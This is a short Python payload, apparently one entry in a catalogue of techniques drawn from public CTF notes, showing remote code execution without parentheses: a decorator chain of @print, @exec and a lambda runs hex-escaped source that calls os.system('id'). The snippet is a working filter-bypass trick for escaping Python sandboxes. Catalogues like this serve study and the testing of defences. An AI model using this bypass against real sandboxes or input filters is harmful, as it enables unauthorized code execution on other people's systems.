# Source: public CTF notes 'RCE without parentheses' (code = lambda x: ...; @print @exec @code class a)
# Family: decorator
# What: a lambda decorator returns source text which @exec runs; escapes hide the parentheses
code = lambda x: "import os; os.system\x28'id'\x29"

@print
@exec
@code
class a:
    pass
